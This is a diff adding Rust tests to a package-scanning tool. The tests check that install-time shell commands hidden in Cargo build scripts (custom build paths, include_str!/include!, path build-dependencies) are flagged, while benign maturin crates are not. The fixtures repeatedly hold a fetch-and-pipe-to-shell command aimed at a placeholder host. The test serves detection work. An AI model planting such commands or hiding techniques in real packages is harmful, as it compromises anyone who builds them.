@@ -447,3 +447,149 @@ fn build_file_commands_run_at_install() {
         );
     }
 }
+
+/// The members of a test sdist after the maturin `pyproject.toml`.
+fn maturin(members: &[M<'_>]) -> Vec<u8> {
+    let pyproject =
+        "[build-system]\nrequires = [\"maturin>=1.5,<2.0\"]\nbuild-backend = \"maturin\"\n";
+    let mut all = vec![M::File("pyproject.toml", pyproject)];
+    all.extend(members.iter().map(|m| match m {
+        M::File(a, b) => M::File(a, b),
+        M::Symlink(a, b) => M::Symlink(a, b),
+        M::Hardlink(a, b) => M::Hardlink(a, b),
+    }));
+    sdist(&all)
+}
+
+/// (rule, severity) of every finding of a folder scan of `members` (files only).
+fn scan_folder(members: &[M<'_>]) -> Vec<(&'static str, Severity)> {
+    let dir = tempfile::tempdir().expect("tempdir");
+    for m in members {
+        if let M::File(name, text) = m {
+            let p = dir.path().join("x-1.0").join(name);
+            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
+            std::fs::write(&p, text).expect("write");
+        }
+    }
+    let opts = airlock::scan::ScanOptions {
+        paths: vec![dir.path().to_path_buf()],
+        exclude: Vec::new(),
+        jobs: 1,
+        limits: BudgetLimits::default(),
+        yara: None,
+    };
+    let report = airlock::scan::scan(&opts, &|_, _| {}).expect("scan");
+    report
+        .files
+        .iter()
+        .flat_map(|f| f.findings.iter().map(|g| (g.rule.id, g.severity)))
+        .collect()
+}
+
+/// Code Cargo compiles into a build script although it is not a `build.rs` beside the manifest
+/// (tester t22 r09, r12, r13): a custom `build = PATH`, a file pulled in by `include_str!` or
+/// `include!`, and the library of a path build-dependency the build script calls. Real
+/// maturin crates (`build = "build.rs"`, `pyo3-build-config`, `cc`, `git rev-parse` in an
+/// included file) stay below medium.
+#[test]
+fn cargo_build_script_sources_beyond_build_rs_run_at_install() {
+    let run = "use std::process::Command;\npub fn prepare() { let _ = Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://x.example.invalid/i.sh | sh\").status(); }\n";
+    let cases: &[(&str, &[M<'_>])] = &[
+        (
+            "custom build path",
+            &[
+                M::File("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\nbuild = \"tools/gen.rs\"\n"),
+                M::File("tools/gen.rs", run),
+            ],
+        ),
+        (
+            "include_str",
+            &[
+                M::File("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\n"),
+                M::File("build.rs", "use std::process::Command;\nfn main() { let _ = Command::new(\"sh\").arg(\"-c\").arg(include_str!(\"payload.txt\")).status(); }\n"),
+                M::File("payload.txt", "curl -s https://x.example.invalid/i.sh | sh"),
+            ],
+        ),
+        (
+            // The included file after the script, in another folder, reached with `..`.
+            "include",
+            &[
+                M::File("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\nbuild = \"build/build.rs\"\n"),
+                M::File("build/build.rs", "include!(\"../tools/steps.rs\");\nfn main() { prepare(); }\n"),
+                M::File("tools/steps.rs", run),
+            ],
+        ),
+        (
+            "path build-dependency",
+            &[
+                M::File("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\n[build-dependencies]\nhelper = { path = \"helper\" }\n"),
+                M::File("build.rs", "fn main() { helper::prepare(); }\n"),
+                M::File("helper/Cargo.toml", "[package]\nname = \"helper\"\nversion = \"0.1.0\"\n"),
+                M::File("helper/src/lib.rs", run),
+            ],
+        ),
+    ];
+    for (case, members) in cases {
+        // The same package unpacked in a folder (the check stage reads it).
+        let tree = scan_folder(members);
+        assert_eq!(
+            tree.iter()
+                .filter(|(rule, _)| *rule == "python-shell-command")
+                .map(|(_, s)| *s)
+                .max(),
+            Some(Severity::High),
+            "{case} (folder): {tree:?}"
+        );
+        let r = scan(&maturin(members));
+        let worst = r
+            .findings
+            .iter()
+            .filter(|f| f.rule.id == "python-shell-command")
+            .map(|f| f.severity)
+            .max();
+        assert_eq!(worst, Some(Severity::High), "{case}: {:?}", r.findings);
+        // The include's first reading (`sh -c payload.txt`) is replaced, not kept beside.
+        assert!(
+            !r.findings
+                .iter()
+                .any(|f| f.evidence.contains("'payload.txt'")),
+            "{case}: {:?}",
+            r.findings
+        );
+    }
+    let benign: &[(&str, &[M<'_>])] = &[
+        (
+            "pyo3 crate",
+            &[
+                M::File("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\nbuild = \"build.rs\"\n[build-dependencies]\npyo3-build-config = \"0.22\"\ncc = \"1\"\nversion_check = { path = \"vendor/version_check\" }\n"),
+                M::File("build.rs", "fn main() {\n    pyo3_build_config::use_pyo3_cfgs();\n    cc::Build::new().file(\"src/fast.c\").compile(\"fast\");\n}\n"),
+                M::File("vendor/version_check/src/lib.rs", "use std::process::Command;\npub fn rustc() -> Option<String> { let o = Command::new(\"rustc\").arg(\"--version\").output().ok()?; String::from_utf8(o.stdout).ok() }\n"),
+            ],
+        ),
+        (
+            "included git step",
+            &[
+                M::File("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\nbuild = \"tools/build.rs\"\n"),
+                M::File("tools/build.rs", "include!(\"git.rs\");\nfn main() { println!(\"cargo:rustc-env=V={}\", include_str!(\"../VERSION\").trim()); git(); }\n"),
+                M::File("tools/git.rs", "fn git() { let _ = std::process::Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output(); }\n"),
+                M::File("VERSION", "1.0.0\n"),
+            ],
+        ),
+    ];
+    for (case, members) in benign {
+        let tree = scan_folder(members);
+        assert!(
+            tree.iter().all(|(_, s)| *s < Severity::Medium),
+            "{case} (folder): {tree:?}"
+        );
+        let r = scan(&maturin(members));
+        assert!(
+            r.findings.iter().all(|f| f.severity < Severity::Medium),
+            "{case}: {:?}",
+            r.findings
+                .iter()
+                .map(|f| (f.rule.id, f.severity, f.evidence.clone()))
+                .collect::<Vec<_>>()
+        );
+    }
+}
